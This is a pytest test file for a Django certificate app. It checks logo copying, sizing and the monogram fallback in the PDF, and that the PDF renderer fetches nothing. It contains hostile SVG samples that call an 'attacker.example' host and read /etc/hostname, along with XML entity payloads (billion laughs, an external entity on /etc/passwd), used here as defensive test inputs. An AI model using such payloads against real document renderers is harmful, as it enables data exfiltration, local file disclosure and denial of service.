"""The provider's logo on certificates: copied at issue like the signature, drawn in the logo
area whatever its shape, the monogram without one, and nothing fetched for an SVG logo
(docs/design.md, the certificate PDF)."""

import io

from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone

import pytest
from PIL import Image

from certificates import pdf
from certificates.issuing import issue_certificate
from certificates.models import Certificate
from certificates.pdf import ensure_pdf, image_data_uri, image_type, render_pdf
from cms.models import CustomImage, ProviderSettings
from courses.enrollment import enroll

LETTER_LANDSCAPE = (792, 612)  # points
A4_LANDSCAPE = (841.89, 595.28)
MM = 72 / 25.4
# The logo area (certificate_pdf.html): 48 x 13 mm, centred, its top 20.2 mm below the top of
# the page (10 mm margin, 2.2 mm frame, 8 mm to the top zone). In PDF points, y upwards.
LOGO_BOX = (
    LETTER_LANDSCAPE[0] / 2 - 24 * MM,
    LETTER_LANDSCAPE[1] - 33.2 * MM,
    LETTER_LANDSCAPE[0] / 2 + 24 * MM,
    LETTER_LANDSCAPE[1] - 20.2 * MM,
)
SLACK = 0.5  # points

SVG_LOGO = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 100">'
    b'<rect width="400" height="100" rx="12" fill="#0b5d5b"/>'
    b'<circle cx="50" cy="50" r="30" fill="#a8833a"/></svg>'
)
# An SVG logo that tries every way WeasyPrint has of reaching outside the file: linked images
# (href and xlink:href, remote and local), an external <use>, a stylesheet @import, a url()
# fill and a web font; and a script, which WeasyPrint never runs.
HOSTILE_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 200 100" width="200" height="100">
  <style>
    @import url("https://attacker.example/style.css");
    @font-face { font-family: Spy; src: url("https://attacker.example/font.woff2"); }
    text { font-family: Spy; }
  </style>
  <script>fetch("https://attacker.example/script")</script>
  <image href="https://attacker.example/pixel.png" width="10" height="10"/>
  <image xlink:href="http://attacker.example/pixel.png" width="10" height="10"/>
  <image href="file:///etc/hostname" width="10" height="10"/>
  <use href="https://attacker.example/sprite.svg#logo"/>
  <rect x="20" width="160" height="100" fill="url(https://attacker.example/p.svg#p)"/>
  <rect x="60" y="20" width="80" height="60" fill="#0b5d5b"/>
  <text x="100" y="95">Spy</text>
</svg>"""


def png(width, height, colour=(11, 93, 91)):
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(buffer, "PNG")
    return buffer.getvalue()


def make_image(data, name, width, height):
    return CustomImage.objects.create(
        title=name, file=ContentFile(data, name=name), width=width, height=height
    )


@pytest.fixture
def provider(home):
    provider = ProviderSettings.for_site(home.get_site())
    provider.provider_name = "NMT Continuing Education"
    provider.ncbtmb_provider_number = "123456-00"
    provider.save()
    return provider


def issue(learner, course, provider, logo=None):
    provider.logo = logo
    provider.save()
    enrollment, _ = enroll(learner, course)
    certificate, created = issue_certificate(enrollment, timezone.now())
    assert created
    return Certificate.objects.get(pk=certificate.pk)


def read(field_file):
    with field_file.open("rb") as stream:
        return stream.read()


def page_of(data):
    import pypdfium2

    document = pypdfium2.PdfDocument(data)
    assert len(document) == 1
    return document[0]


def inside(bounds, box, slack=SLACK):
    left, bottom, right, top = bounds
    return (
        left >= box[0] - slack
        and bottom >= box[1] - slack
        and right <= box[2] + slack
        and top <= box[3] + slack
    )


def logo_objects(page):
    """What is drawn in the logo area (the frame and corner marks are far from it)."""
    return [
        obj
        for obj in page.get_objects(max_depth=1)
        if inside(obj.get_bounds(), LOGO_BOX, slack=2 * MM)
    ]


def logo_bounds(page):
    """The box around everything drawn in the logo area (an SVG logo is drawn as paths)."""
    boxes = [obj.get_bounds() for obj in logo_objects(page)]
    assert boxes, "nothing is drawn in the logo area"
    return (
        min(box[0] for box in boxes),
        min(box[1] for box in boxes),
        max(box[2] for box in boxes),
        max(box[3] for box in boxes),
    )


def text_in_logo_area(page):
    return page.get_textpage().get_text_bounded(*LOGO_BOX).strip()


def assert_inside_the_a4_safe_area(page):
    """As test_certificate_layout.py: nothing in the strips A4 crops, or a printer's margin."""
    cropped = (LETTER_LANDSCAPE[1] - A4_LANDSCAPE[1]) / 2
    printer_margin = 12
    for obj in page.get_objects(max_depth=1):
        left, bottom, right, top = obj.get_bounds()
        assert left >= printer_margin and right <= LETTER_LANDSCAPE[0] - printer_margin
        assert bottom >= cropped + printer_margin
        assert top <= LETTER_LANDSCAPE[1] - cropped - printer_margin


# --- Issue: the copy ---------------------------------------------------------------------------


def test_the_logo_is_copied_into_the_certificate_at_issue(learner, course, provider):
    data = png(600, 150)
    logo = make_image(data, "logo.png", 600, 150)
    certificate = issue(learner, course, provider, logo)
    assert certificate.logo.name.startswith("certificates/logos/")
    assert certificate.logo.name.endswith(".png")
    assert certificate.logo.name != logo.file.name
    assert read(certificate.logo) == data
    assert not certificate.signature  # the provider has no signature image


def test_a_later_change_or_deletion_of_the_logo_never_alters_an_issued_certificate(
    learner, course, provider
):
    first = png(600, 150, colour=(11, 93, 91))
    logo = make_image(first, "logo.png", 600, 150)
    certificate = issue(learner, course, provider, logo)
    stored = read(ensure_pdf(certificate))
    drawn = render_pdf(certificate)

    # A new logo in the settings, the old image's file overwritten, then the image deleted.
    provider.logo = make_image(png(150, 600, colour=(168, 131, 58)), "new.png", 150, 600)
    provider.save()
    with logo.file.storage.open(logo.file.name, "wb") as stream:
        stream.write(png(600, 150, colour=(255, 0, 0)))
    logo.delete()

    certificate = Certificate.objects.get(pk=certificate.pk)
    assert read(certificate.logo) == first
    assert read(ensure_pdf(certificate)) == stored
    assert render_pdf(certificate) == drawn


def test_a_logo_that_cannot_be_read_leaves_the_monogram_and_still_issues(
    learner, course, provider, caplog
):
    logo = make_image(png(600, 150), "logo.png", 600, 150)
    logo.file.storage.delete(logo.file.name)
    certificate = issue(learner, course, provider, logo)
    assert not certificate.logo
    assert "Could not copy the logo" in caplog.text
    assert text_in_logo_area(page_of(render_pdf(certificate))) == "NCE"


# --- The PDF -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, data, size, expected",
    [
        # (width, height) of the drawn logo in mm: object-fit contain in 48 x 13 mm.
        ("wide.png", png(800, 100), (800, 100), (48, 6)),
        ("tall.png", png(100, 400), (100, 400), (3.25, 13)),
        ("square.png", png(300, 300), (300, 300), (13, 13)),
        ("wide.svg", SVG_LOGO, (400, 100), (48, 12)),
    ],
)
def test_the_logo_fits_the_logo_area_and_the_page_stays_one_page(
    learner, course, provider, name, data, size, expected
):
    certificate = issue(learner, course, provider, make_image(data, name, *size))
    page = page_of(render_pdf(certificate))
    assert (page.get_width(), page.get_height()) == LETTER_LANDSCAPE
    assert_inside_the_a4_safe_area(page)
    bounds = logo_bounds(page)
    assert inside(bounds, LOGO_BOX)
    width, height = (bounds[2] - bounds[0]) / MM, (bounds[3] - bounds[1]) / MM
    assert width == pytest.approx(expected[0], abs=0.3)
    assert height == pytest.approx(expected[1], abs=0.3)
    # Centred under the frame's middle, and in place of the monogram.
    assert (bounds[0] + bounds[2]) / 2 == pytest.approx(LETTER_LANDSCAPE[0] / 2, abs=SLACK)
    assert text_in_logo_area(page) == ""


def test_a_raster_logo_is_embedded_as_an_image(learner, course, provider):
    import pypdfium2.raw as pdfium_c
    from pypdf import PdfReader

    certificate = issue(learner, course, provider, make_image(png(800, 100), "l.png", 800, 100))
    data = render_pdf(certificate)
    sizes = {
        Image.open(io.BytesIO(i.data)).size for i in PdfReader(io.BytesIO(data)).pages[0].images
    }
    assert (800, 100) in sizes  # beside the QR code
    (drawn,) = logo_objects(page_of(data))
    assert drawn.type == pdfium_c.FPDF_PAGEOBJ_IMAGE


def test_without_a_logo_the_monogram_is_drawn(learner, course, provider):
    certificate = issue(learner, course, provider)
    assert not certificate.logo
    context = pdf.certificate_context(certificate)
    assert context["logo"] is None and context["monogram"] == "NCE"
    page = page_of(render_pdf(certificate))
    assert text_in_logo_area(page) == "NCE"
    assert_inside_the_a4_safe_area(page)


# --- SVG: nothing fetched ---------------------------------------------------------------------


@pytest.fixture
def fetches(monkeypatch):
    """Every URL WeasyPrint asks its fetcher for, and whether the fetcher gave it."""
    seen = []
    make = pdf.url_fetcher

    def spying_fetcher():
        fetcher = make()
        fetch = fetcher.fetch

        def spy(url, headers=None):
            try:
                response = fetch(url, headers)
            except Exception:
                seen.append((url, "refused"))
                raise
            seen.append((url, "fetched"))
            return response

        fetcher.fetch = spy
        return fetcher

    monkeypatch.setattr(pdf, "url_fetcher", spying_fetcher)
    return seen


def test_an_svg_logo_cannot_fetch_anything(learner, course, provider, no_network, fetches):
    certificate = issue(learner, course, provider, make_image(HOSTILE_SVG, "s.svg", 200, 100))
    page = page_of(render_pdf(certificate))

    refused = {url for url, outcome in fetches if outcome == "refused"}
    fetched = {url for url, outcome in fetches if outcome == "fetched"}
    assert all(url.startswith("data:") for url in fetched), fetched
    assert {
        "https://attacker.example/pixel.png",
        "http://attacker.example/pixel.png",
        "file:///etc/hostname",
        "https://attacker.example/font.woff2",
    } <= refused
    assert not any("attacker.example" in url or url.startswith("file:") for url in fetched)
    # The logo's own drawing is still there, in the logo area.
    assert inside(logo_bounds(page), LOGO_BOX)
    assert_inside_the_a4_safe_area(page)


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/logo.png",
        "https://example.com/logo.png",
        "file:///etc/passwd",
        "ftp://example.com/logo.png",
        "//example.com/logo.png",
    ],
)
def test_the_pdf_fetcher_refuses_everything_but_data_urls(url, no_network):
    with pytest.raises(ValueError):
        pdf.url_fetcher().fetch(url)


def test_the_pdf_fetcher_reads_data_urls():
    response = pdf.url_fetcher().fetch("data:image/png;base64,iVBORw0KGgo=")
    assert response.read() == b"\x89PNG\r\n\x1a\n"


def test_weasyprint_is_given_the_refusing_fetcher(monkeypatch, learner, course, provider):
    import weasyprint

    given = []
    real = weasyprint.HTML

    def html(*args, **kwargs):
        given.append(kwargs.get("url_fetcher"))
        return real(*args, **kwargs)

    monkeypatch.setattr(weasyprint, "HTML", html)
    render_pdf(issue(learner, course, provider))
    (fetcher,) = given
    with pytest.raises(ValueError, match="disallowed protocol"):
        fetcher.fetch("https://example.com/")


# --- Recognising images ------------------------------------------------------------------------


def raster(kind):
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (0, 0, 0)).save(buffer, kind)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "data, kind",
    [
        (raster("PNG"), "image/png"),
        (raster("JPEG"), "image/jpeg"),
        (raster("GIF"), "image/gif"),
        (raster("WEBP"), "image/webp"),
        (SVG_LOGO, "image/svg+xml"),
        (HOSTILE_SVG, "image/svg+xml"),
        (b"\xef\xbb\xbf\n  " + SVG_LOGO, "image/svg+xml"),
        (b'<svg viewBox="0 0 1 1"><rect width="1" height="1"/></svg>', "image/svg+xml"),
        (
            b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + SVG_LOGO,
            "image/svg+xml",
        ),
        # Entities (a billion laughs, an external file) are refused, not expanded.
        (
            b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
            None,
        ),
        (
            b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
            None,
        ),
        (b"<html><body>not an image</body></html>", None),
        (b"<svg", None),
        (b"%PDF-1.7 not an image", None),
        (b"", None),
    ],
)
def test_image_types_are_read_from_the_content(data, kind):
    assert image_type(data) == kind


def test_an_image_that_is_not_drawable_gives_no_data_uri(learner, course, provider):
    certificate = issue(learner, course, provider)
    assert image_data_uri(certificate.logo) is None
    certificate.logo.save("x.svg", ContentFile(b"<html>no</html>"), save=False)
    assert image_data_uri(certificate.logo) is None
    certificate.logo.save("x.svg", ContentFile(SVG_LOGO), save=False)
    assert image_data_uri(certificate.logo).startswith("data:image/svg+xml;base64,")


def test_the_demo_logo_is_a_clean_svg():
    """setup_demo's logo, drawn for this project: held to the course diagrams' SVG rules."""
    from courses.content_source import svg_problem
    from courses.management.commands.setup_demo import DEMO_LOGO

    data = DEMO_LOGO.read_bytes()
    assert image_type(data) == "image/svg+xml"
    assert svg_problem(data) is None
    assert b"DEMO" in data


# --- Admin ---------------------------------------------------------------------------------------


def test_the_provider_settings_form_accepts_a_logo(client, admin_user, home, provider):
    logo = make_image(png(600, 150), "logo.png", 600, 150)
    client.force_login(admin_user)
    url = reverse("wagtailsettings:edit", args=["cms", "providersettings", home.get_site().id])
    page = client.get(url)
    assert page.status_code == 200 and 'name="logo"' in page.text
    response = client.post(
        url,
        {
            "provider_name": "NMT Continuing Education",
            "ncbtmb_provider_number": "123456-00",
            "address": "",
            "email": "ce@example.com",
            "website": "",
            "logo": str(logo.pk),
            "signatory_name": "Avery Admin",
            "signatory_title": "",
            "signature_image": "",
        },
    )
    assert response.status_code == 302, response.content[:2000]
    assert ProviderSettings.objects.get(pk=provider.pk).logo == logo


@pytest.mark.parametrize("field", ["logo", "signature_image"])
@pytest.mark.parametrize("value", ["abc", " ", "1e309", "9" * 40, "999999"])
def test_a_tampered_image_id_is_refused_not_a_server_error(
    client, admin_user, home, provider, field, value
):
    """Wagtail's chooser widget failed on an id that is not a number when re-rendering the
    refused form; cms.forms.ImageChooser shows no image and the field says why."""
    logo = make_image(png(600, 150), "logo.png", 600, 150)
    provider.logo = logo
    provider.save()
    client.force_login(admin_user)
    url = reverse("wagtailsettings:edit", args=["cms", "providersettings", home.get_site().id])
    response = client.post(url, {"provider_name": "Changed", field: value})
    assert response.status_code == 200
    assert "Select a valid choice" in response.text
    saved = ProviderSettings.objects.get(pk=provider.pk)
    assert saved.provider_name == "NMT Continuing Education" and saved.logo == logo
